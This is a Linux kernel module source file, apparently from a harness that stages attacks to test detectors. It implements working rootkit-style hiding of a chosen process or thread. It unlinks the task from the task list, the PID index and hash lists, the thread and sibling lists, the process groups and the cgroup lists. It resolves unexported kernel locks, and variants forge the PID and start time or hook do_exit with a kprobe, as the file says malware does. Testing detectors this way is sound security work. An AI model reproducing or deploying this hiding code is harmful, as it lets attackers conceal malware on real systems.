// SPDX-License-Identifier: GPL-2.0-only
/*
 * Removes a running process or thread from the structures by which Linux finds
 * it.
 *
 * A removed node ends up linked to itself, since the task may exit meanwhile
 * and unlink the node once more.
 */
#include <linux/cgroup.h>
#include <linux/idr.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/string.h>
#include <linux/version.h>
#include <asm/tsc.h>

#include "attacks.h"

/* Neither is exported. */
static rwlock_t *tasks_lock;
static spinlock_t *pids_lock;

/* Before 6.7, threads were in two lists. */
#if LINUX_VERSION_CODE < KERNEL_VERSION(6, 7, 0)
#define GROUP_LIST
#endif

struct hidden {
	struct task_struct *task;
	struct pid *pid;
};

static bool is_in(const struct list_head *entry, const struct list_head *list)
{
	const struct list_head *at;

	list_for_each(at, list)
		if (at == entry)
			return true;
	return false;
}

static bool has_task(struct pid *pid, enum pid_type type, struct task_struct *task)
{
	struct hlist_node *at;

	hlist_for_each(at, &pid->tasks[type])
		if (at == &task->pid_links[type])
			return true;
	return false;
}

/* Keeps the entry's own pointers: a lockless reader may be on the entry. */
static void unlink_entry(struct list_head *entry)
{
	WRITE_ONCE(entry->prev->next, entry->next);
	entry->next->prev = entry->prev;
}

/* Links an entry to itself, unless it was put back meanwhile. */
static void self_link(struct list_head *entry, struct list_head *list)
{
	if (!is_in(entry, list))
		INIT_LIST_HEAD(entry);
}

static bool alive(struct task_struct *task)
{
	return task->thread_pid && task->sighand;
}

/* The task with PID @argument in the initial namespace: the first thread of a process if @process, else another one. */
static int find(struct hidden *hidden, char *argument, bool process)
{
	pid_t pid;

	if (kstrtoint(argument, 10, &pid) || pid < 2)
		return -EINVAL;
	if (!tasks_lock) {
		pids_lock = (spinlock_t *)symbol("pidmap_lock");
		tasks_lock = (rwlock_t *)symbol("tasklist_lock");
	}
	if (!tasks_lock || !pids_lock)
		return -ENOENT;
	hidden->pid = find_get_pid(pid);
	hidden->task = get_pid_task(hidden->pid, PIDTYPE_PID);
	if (hidden->task && thread_group_leader(hidden->task) == process)
		return 0;
	if (hidden->task)
		put_task_struct(hidden->task);
	put_pid(hidden->pid);
	return -ESRCH;
}

static void forget(struct hidden *hidden)
{
	put_task_struct(hidden->task);
	put_pid(hidden->pid);
}

static void set_target(struct attack *attack, struct task_struct *task)
{
	snprintf(attack->about, sizeof(attack->about), "%s (%d)", task->comm,
		 task_pid_nr(task));
}

static void relink_task(struct task_struct *task)
{
	if (!is_in(&task->tasks, &init_task.tasks))
		list_add_tail_rcu(&task->tasks, &init_task.tasks);
}

/*
 * Calls @how under the lock with interrupts off to unlink the task; then, when
 * no reader is on the unlinked nodes, @after to link them to themselves.
 */
static int hide(struct attack *attack, struct hidden *hidden,
		void (*how)(struct hidden *hidden), void (*after)(struct hidden *hidden))
{
	struct task_struct *task = hidden->task;
	unsigned long flags;
	bool was_alive;

	set_target(attack, task);
	local_irq_save(flags);
	write_lock(tasks_lock);
	was_alive = alive(task);
	if (was_alive) {
		attack->tsc = rdtsc_ordered();
		how(hidden);
	}
	write_unlock(tasks_lock);
	if (was_alive)
		attack_done(attack);
	local_irq_restore(flags);
	if (!was_alive) {
		forget(hidden);
		return -ESRCH;
	}
	synchronize_rcu();
	write_lock_irq(tasks_lock);
	if (alive(task))
		after(hidden);
	write_unlock_irq(tasks_lock);
	return 0;
}

/* hide-list: the process list only. */
static struct hidden from_list;

static void list_how(struct hidden *hidden)
{
	unlink_entry(&hidden->task->tasks);
}

static void list_after(struct hidden *hidden)
{
	self_link(&hidden->task->tasks, &init_task.tasks);
}

static int list_begin(struct attack *attack, char *argument)
{
	int error = find(&from_list, argument, true);

	return error ? error : hide(attack, &from_list, list_how, list_after);
}

static bool list_present(struct attack *attack)
{
	bool present;

	read_lock(tasks_lock);
	present = alive(from_list.task) && !is_in(&from_list.task->tasks, &init_task.tasks);
	read_unlock(tasks_lock);
	return present;
}

static void list_undo(struct attack *attack)
{
	write_lock_irq(tasks_lock);
	if (alive(from_list.task))
		relink_task(from_list.task);
	write_unlock_irq(tasks_lock);
	forget(&from_list);
}

struct attack hide_list = {
	.name = "hide-list",
	.begin = list_begin,
	.undo = list_undo,
	.present = list_present,
};

/*
 * hide-forged: as hide-list, and the task no longer looks like one: its PID is
 * 0, and its start time is another.
 */
static struct hidden forged;
static pid_t forged_pid;

static void forged_how(struct hidden *hidden)
{
	list_how(hidden);
	forged_pid = hidden->task->pid;
	hidden->task->pid = 0;
	hidden->task->start_time++;
}

static int forged_begin(struct attack *attack, char *argument)
{
	int error = find(&forged, argument, true);

	return error ? error : hide(attack, &forged, forged_how, list_after);
}

static bool forged_present(struct attack *attack)
{
	bool present;

	read_lock(tasks_lock);
	present = alive(forged.task) &&
		  !is_in(&forged.task->tasks, &init_task.tasks);
	read_unlock(tasks_lock);
	return present;
}

static void forged_undo(struct attack *attack)
{
	write_lock_irq(tasks_lock);
	forged.task->pid = forged_pid;
	if (alive(forged.task))
		relink_task(forged.task);
	write_unlock_irq(tasks_lock);
	forget(&forged);
}

struct attack hide_forged = {
	.name = "hide-forged",
	.begin = forged_begin,
	.undo = forged_undo,
	.present = forged_present,
};

/* hide-list-pid: the process list, the PID's slot in the index, and the PID's lists of threads and processes. */
static struct hidden from_pid;

static void set_slot(struct pid *pid, struct pid *from, struct pid *to)
{
	struct upid *upid = &pid->numbers[0];

	spin_lock(pids_lock);
	if (idr_find(&init_pid_ns.idr, upid->nr) == from)
		idr_replace(&init_pid_ns.idr, to, upid->nr);
	spin_unlock(pids_lock);
}

static void unlink_pid(struct hlist_node *node)
{
	WRITE_ONCE(*node->pprev, node->next);
	if (node->next)
		node->next->pprev = node->pprev;
}

static void pid_how(struct hidden *hidden)
{
	struct task_struct *task = hidden->task;

	unlink_entry(&task->tasks);
	set_slot(hidden->pid, hidden->pid, NULL);
	unlink_pid(&task->pid_links[PIDTYPE_PID]);
	unlink_pid(&task->pid_links[PIDTYPE_TGID]);
}

static void self_link_pid(struct hidden *hidden, enum pid_type type)
{
	struct hlist_node *node = &hidden->task->pid_links[type];

	if (has_task(hidden->pid, type, hidden->task))
		return;
	node->next = NULL;
	node->pprev = &node->next;
}

static void pid_after(struct hidden *hidden)
{
	self_link(&hidden->task->tasks, &init_task.tasks);
	self_link_pid(hidden, PIDTYPE_PID);
	self_link_pid(hidden, PIDTYPE_TGID);
}

static int pid_begin(struct attack *attack, char *argument)
{
	int error = find(&from_pid, argument, true);

	return error ? error : hide(attack, &from_pid, pid_how, pid_after);
}

static bool pid_missing(struct hidden *hidden)
{
	return !is_in(&hidden->task->tasks, &init_task.tasks) ||
	       idr_find(&init_pid_ns.idr, hidden->pid->numbers[0].nr) != hidden->pid ||
	       !has_task(hidden->pid, PIDTYPE_PID, hidden->task) ||
	       !has_task(hidden->pid, PIDTYPE_TGID, hidden->task);
}

static bool pid_present(struct attack *attack)
{
	bool present;

	rcu_read_lock();
	read_lock(tasks_lock);
	present = alive(from_pid.task) && pid_missing(&from_pid);
	read_unlock(tasks_lock);
	rcu_read_unlock();
	return present;
}

static void relink_pid(struct hidden *hidden, enum pid_type type)
{
	if (!has_task(hidden->pid, type, hidden->task))
		hlist_add_head_rcu(&hidden->task->pid_links[type], &hidden->pid->tasks[type]);
}

static void pid_undo(struct attack *attack)
{
	write_lock_irq(tasks_lock);
	if (alive(from_pid.task)) {
		relink_pid(&from_pid, PIDTYPE_PID);
		relink_pid(&from_pid, PIDTYPE_TGID);
		set_slot(from_pid.pid, NULL, from_pid.pid);
		relink_task(from_pid.task);
	}
	write_unlock_irq(tasks_lock);
	forget(&from_pid);
}

struct attack hide_list_pid = {
	.name = "hide-list-pid",
	.begin = pid_begin,
	.undo = pid_undo,
	.present = pid_present,
};

/*
 * hide-again: as hide-list-pid, and a probe puts the task back when it exits,
 * as malware does so that Linux does not stumble over it. It does not look
 * whether somebody else did so before.
 */
static struct hidden until_exit;

static int before_exit(struct kprobe *probe, struct pt_regs *regs)
{
	struct task_struct *task = until_exit.task;
	struct pid *pid = until_exit.pid;
	unsigned long flags;

	if (current != task)
		return 0;
	write_lock_irqsave(tasks_lock, flags);
	hlist_add_head_rcu(&task->pid_links[PIDTYPE_PID],
			   &pid->tasks[PIDTYPE_PID]);
	hlist_add_head_rcu(&task->pid_links[PIDTYPE_TGID],
			   &pid->tasks[PIDTYPE_TGID]);
	set_slot(pid, NULL, pid);
	list_add_tail_rcu(&task->tasks, &init_task.tasks);
	write_unlock_irqrestore(tasks_lock, flags);
	return 0;
}

static struct kprobe exit_probe;

static int again_begin(struct attack *attack, char *argument)
{
	int error = find(&until_exit, argument, true);

	if (error)
		return error;
	exit_probe = (struct kprobe){
		.symbol_name = "do_exit",
		.pre_handler = before_exit,
	};
	error = register_kprobe(&exit_probe);
	if (error) {
		forget(&until_exit);
		return error;
	}
	error = hide(attack, &until_exit, pid_how, pid_after);
	if (error)
		unregister_kprobe(&exit_probe);
	return error;
}

static bool again_present(struct attack *attack)
{
	bool present;

	rcu_read_lock();
	read_lock(tasks_lock);
	present = alive(until_exit.task) && pid_missing(&until_exit);
	read_unlock(tasks_lock);
	rcu_read_unlock();
	return present;
}

static void again_undo(struct attack *attack)
{
	unregister_kprobe(&exit_probe);
	write_lock_irq(tasks_lock);
	if (alive(until_exit.task)) {
		relink_pid(&until_exit, PIDTYPE_PID);
		relink_pid(&until_exit, PIDTYPE_TGID);
		set_slot(until_exit.pid, NULL, until_exit.pid);
		relink_task(until_exit.task);
	}
	write_unlock_irq(tasks_lock);
	forget(&until_exit);
}

struct attack hide_again = {
	.name = "hide-again",
	.begin = again_begin,
	.undo = again_undo,
	.present = again_present,
};

/*
 * hide-twice: as hide-list-pid, and its undo links the task to its PID without
 * a look whether somebody else did so before.
 */
static struct hidden for_now;

static int twice_begin(struct attack *attack, char *argument)
{
	int error = find(&for_now, argument, true);

	return error ? error : hide(attack, &for_now, pid_how, pid_after);
}

static bool twice_present(struct attack *attack)
{
	bool present;

	rcu_read_lock();
	read_lock(tasks_lock);
	present = alive(for_now.task) && pid_missing(&for_now);
	read_unlock(tasks_lock);
	rcu_read_unlock();
	return present;
}

static void twice_undo(struct attack *attack)
{
	struct task_struct *task = for_now.task;
	struct pid *pid = for_now.pid;

	write_lock_irq(tasks_lock);
	if (alive(task)) {
		hlist_add_head_rcu(&task->pid_links[PIDTYPE_PID],
				   &pid->tasks[PIDTYPE_PID]);
		hlist_add_head_rcu(&task->pid_links[PIDTYPE_TGID],
				   &pid->tasks[PIDTYPE_TGID]);
		set_slot(pid, NULL, pid);
		/* Many kernels refuse to add to a list twice. */
		relink_task(task);
	}
	write_unlock_irq(tasks_lock);
	forget(&for_now);
}

struct attack hide_twice = {
	.name = "hide-twice",
	.begin = twice_begin,
	.undo = twice_undo,
	.present = twice_present,
};

/*
 * hide-all: everything by which Linux finds a process of one thread, but for
 * the run queue that it needs to run. "PID children" leaves it among its
 * parent's children, "PID groups" in its process group and session; otherwise
 * it must have a session of its own, since nobody would keep another's PID.
 *
 * Undo comes before its exit: Linux warns about a task without a control group.
 */
static struct hidden from_all;
static bool keeps_parent, keeps_groups;
static spinlock_t *groups_lock;

static bool is_in_group(struct task_struct *task)
{
	return is_in(&task->cg_list, &task_css_set(task)->tasks);
}

static void all_how(struct hidden *hidden)
{
	struct task_struct *task = hidden->task;

	pid_how(hidden);
	unlink_entry(&task->thread_node);
	if (!keeps_parent)
		unlink_entry(&task->sibling);
	if (!keeps_groups) {
		unlink_pid(&task->pid_links[PIDTYPE_PGID]);
		unlink_pid(&task->pid_links[PIDTYPE_SID]);
	}
	spin_lock(groups_lock);
	unlink_entry(&task->cg_list);
	spin_unlock(groups_lock);
}

static void all_after(struct hidden *hidden)
{
	struct task_struct *task = hidden->task;

	pid_after(hidden);
	self_link(&task->thread_node, &task->signal->thread_head);
	if (!keeps_parent)
		self_link(&task->sibling, &task->real_parent->children);
	if (!keeps_groups) {
		self_link_pid(hidden, PIDTYPE_PGID);
		self_link_pid(hidden, PIDTYPE_SID);
	}
	spin_lock(groups_lock);
	self_link(&task->cg_list, &task_css_set(task)->tasks);
	spin_unlock(groups_lock);
}

static bool can_hide_all(struct hidden *hidden)
{
	struct task_struct *task = hidden->task;
	bool can;

	read_lock(tasks_lock);
	can = alive(task) && thread_group_empty(task) &&
	      (keeps_groups || (task_pgrp(task) == hidden->pid &&
				task_session(task) == hidden->pid));
	read_unlock(tasks_lock);
	spin_lock_irq(groups_lock);
	can = can && is_in_group(task);
	spin_unlock_irq(groups_lock);
	return can;
}

static int all_begin(struct attack *attack, char *argument)
{
	char *pid = strsep(&argument, " ");
	int error;

	keeps_parent = argument && !strcmp(argument, "children");
	keeps_groups = argument && !strcmp(argument, "groups");
	if (argument && !keeps_parent && !keeps_groups)
		return -EINVAL;
	groups_lock = (spinlock_t *)symbol("css_set_lock");
	if (!groups_lock)
		return -ENOENT;
	error = find(&from_all, pid, true);
	if (error)
		return error;
	if (!can_hide_all(&from_all)) {
		forget(&from_all);
		return -EINVAL;
	}
	return hide(attack, &from_all, all_how, all_after);
}

/* A repair puts it back where a task must be. */
static bool all_present(struct attack *attack)
{
	struct task_struct *task = from_all.task;
	bool present;

	rcu_read_lock();
	read_lock(tasks_lock);
	present = alive(task) &&
		  (pid_missing(&from_all) ||
		   !is_in(&task->thread_node, &task->signal->thread_head));
	read_unlock(tasks_lock);
	rcu_read_unlock();
	return present;
}

static void all_undo(struct attack *attack)
{
	struct task_struct *task = from_all.task;

	write_lock_irq(tasks_lock);
	if (alive(task)) {
		enum pid_type type;

		for (type = PIDTYPE_PID; type < PIDTYPE_MAX; type++)
			if (!keeps_groups || type < PIDTYPE_PGID)
				relink_pid(&from_all, type);
		set_slot(from_all.pid, NULL, from_all.pid);
		relink_task(task);
		if (!is_in(&task->thread_node, &task->signal->thread_head))
			list_add_tail_rcu(&task->thread_node, &task->signal->thread_head);
		if (!is_in(&task->sibling, &task->real_parent->children))
			list_add_tail(&task->sibling, &task->real_parent->children);
		spin_lock(groups_lock);
		if (!is_in_group(task))
			list_add_tail(&task->cg_list, &task_css_set(task)->tasks);
		spin_unlock(groups_lock);
	}
	write_unlock_irq(tasks_lock);
	forget(&from_all);
}

struct attack hide_all = {
	.name = "hide-all",
	.begin = all_begin,
	.undo = all_undo,
	.present = all_present,
};

/* hide-thread: the thread lists of its process. */
static struct hidden from_process;

static void thread_how(struct hidden *hidden)
{
	unlink_entry(&hidden->task->thread_node);
#ifdef GROUP_LIST
	unlink_entry(&hidden->task->thread_group);
#endif
}

static void thread_after(struct hidden *hidden)
{
	struct task_struct *task = hidden->task;

	self_link(&task->thread_node, &task->signal->thread_head);
#ifdef GROUP_LIST
	self_link(&task->thread_group, &task->group_leader->thread_group);
#endif
}

static int thread_begin(struct attack *attack, char *argument)
{
	int error = find(&from_process, argument, false);

	return error ? error : hide(attack, &from_process, thread_how, thread_after);
}

static bool thread_present(struct attack *attack)
{
	struct task_struct *task = from_process.task;
	bool present = false;

	read_lock(tasks_lock);
	if (alive(task)) {
		present = !is_in(&task->thread_node, &task->signal->thread_head);
#ifdef GROUP_LIST
		present |= !is_in(&task->thread_group, &task->group_leader->thread_group);
#endif
	}
	read_unlock(tasks_lock);
	return present;
}

static void thread_undo(struct attack *attack)
{
	struct task_struct *task = from_process.task;

	write_lock_irq(tasks_lock);
	if (alive(task)) {
		if (!is_in(&task->thread_node, &task->signal->thread_head))
			list_add_tail_rcu(&task->thread_node, &task->signal->thread_head);
#ifdef GROUP_LIST
		if (!is_in(&task->thread_group, &task->group_leader->thread_group))
			list_add_tail_rcu(&task->thread_group,
					  &task->group_leader->thread_group);
#endif
	}
	write_unlock_irq(tasks_lock);
	forget(&from_process);
}

struct attack hide_thread = {
	.name = "hide-thread",
	.begin = thread_begin,
	.undo = thread_undo,
	.present = thread_present,
};
